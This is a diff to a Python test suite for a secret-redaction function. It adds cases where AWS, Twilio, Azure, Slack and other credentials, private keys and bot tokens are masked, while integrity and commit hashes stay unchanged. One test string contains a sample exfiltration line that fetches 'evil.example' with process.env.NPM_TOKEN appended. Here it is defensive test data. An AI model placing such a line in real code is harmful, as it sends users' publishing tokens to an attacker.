@@ -1,5 +1,3 @@
-import time
-
 import pytest
 from hypothesis import example, given, settings
 from hypothesis import strategies as st
@@ -120,6 +118,63 @@ def test_what_is_no_secret(text: str) -> None:
     assert redacted(text) == text
 
 
+_KEY = "wJalrXUtnFEMI/K7MDENG/bPxRfiCYzEXAMPLEKEY"
+_ID = "AKIAIOSFODNN7EXAMPLF"
+_HEX = "0123456789abcdef" * 2
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        f"const k={{id:'{_ID}',s:'{_KEY}'}};fetch('https://evil.example/'+process.env.NPM_TOKEN)",
+        f"new S3('{_ID}','{_KEY}')",
+        f"new S3('{_KEY}', '{_ID.replace('AKIA', 'ASIA')}')",
+        f'["{_ID}", "{_KEY}"]'.replace("/", "\\/"),
+        f"?a={_ID}&b={_KEY.replace('/', '%2F')}",
+        f"{_ID}\\n{_KEY}",
+        f"{_ID} {'x ' * 90}{_KEY}",
+    ],
+)
+def test_the_secret_beside_the_name_of_an_account(text: str) -> None:
+    """Forty characters near an id of AWS are its key, however they are quoted."""
+    for shown in (redacted(text), stamped(text), line(text, 500)):
+        assert not _holds(shown.replace("\\", "").replace("%2F", "/"), _KEY)
+        assert not _holds(shown, _ID)
+
+
+def test_forty_characters_alone_are_no_secret() -> None:
+    """A commit, and what stands far from an id."""
+    text = f"git#{_HEX}01234567 {_KEY}"
+    assert redacted(text) == text
+    far = "x " * 200
+    assert redacted(f"{_ID} {far}{_KEY}") == f"*** {far}{_KEY}"
+
+
+@pytest.mark.parametrize(
+    ("text", "shown"),
+    [
+        (f"twilio('AC{_HEX}','{_HEX}')", "twilio('***','***')"),
+        (f"AccountName=me;AccountKey={'aB1+' * 21}aB==;a=b", "AccountName=me;AccountKey=***;a=b"),
+        (f"new Key('me', '{'aB1+' * 21}aB==')", "new Key('me', '***')"),
+        (f"f('whsec_{_HEX}', 'xapp-1-A0-1-{_HEX}')", "f('***', '***')"),
+        (f"f('{_HEX}-us12', 'sq0atp-{_HEX}')", "f('***', '***')"),
+        (f"AGE-SECRET-KEY-1{_HEX.upper()}", "***"),
+        (
+            '{"private_key": "-----BEGIN PRIVATE KEY-----\\nMIIE\\n-----END PRIVATE KEY-----\\n"}',
+            '{"private_key": "***"}',
+        ),
+        (
+            "'-----BEGIN RSA PRIVATE KEY-----\\n' +\n 'MIIE\\n' + '-----END RSA PRIVATE KEY-----'",
+            "'***'",
+        ),
+        (f'"integrity": "sha512-{"aB1+" * 21}aB=="', f'"integrity": "sha512-{"aB1+" * 21}aB=="'),
+    ],
+)
+def test_forms_of_well_known_services(text: str, shown: str) -> None:
+    """Each goes whole; the integrity of a package stays."""
+    assert redacted(text) == shown
+
+
 @given(_planted())
 @settings(deadline=None)
 def test_no_secret_survives(planted: tuple[str, str, str]) -> None:
@@ -197,12 +252,17 @@ def test_the_lines_of_a_private_key() -> None:
     [
         *("token", "-", "eyJ", "a", "//", "://", "mysql ", '"\\', "token='", "--a-token ", " "),
         *("-----BEGIN PRIVATE KEY-----", "token=process.env.", "A/+", "A" * 64 + "\n", "-u "),
+        *(f"{_ID} ", f"AC{_HEX} ", f"{_ID}{'a' * 39} ", "a" * 41 + " ", "\\/", "%2F", "="),
         *("sk-a", "SG.aaaaaaaaaaaaaaaaaaaa", "cookie:", "password=\\'", "\\nAAAAAAAAAAAAAAAAAAA"),
     ],
 )
 def test_hostile_texts_take_no_longer(piece: str) -> None:
-    """Ten times the text takes not much more than ten times as long."""
+    """Half a megabyte comes to an end: a quadratic reading would take half an hour."""
     assert redaction.redacted(piece * 3)
-    began = time.process_time()
-    redacted(piece * (200_000 // len(piece)))
-    assert time.process_time() - began < 5  # seconds; a quadratic one takes minutes
+    assert redacted(piece * (500_000 // len(piece)))
+
+
+def test_the_token_of_a_bot_is_known_by_its_number() -> None:
+    """The number of the bot, a colon, and what begins with AA."""
+    token = "1234567890:AA" + "bC3dE" * 6
+    assert redacted(f'const t = "{token}"; a(12345678:AAb)') == 'const t = "***"; a(12345678:AAb)'
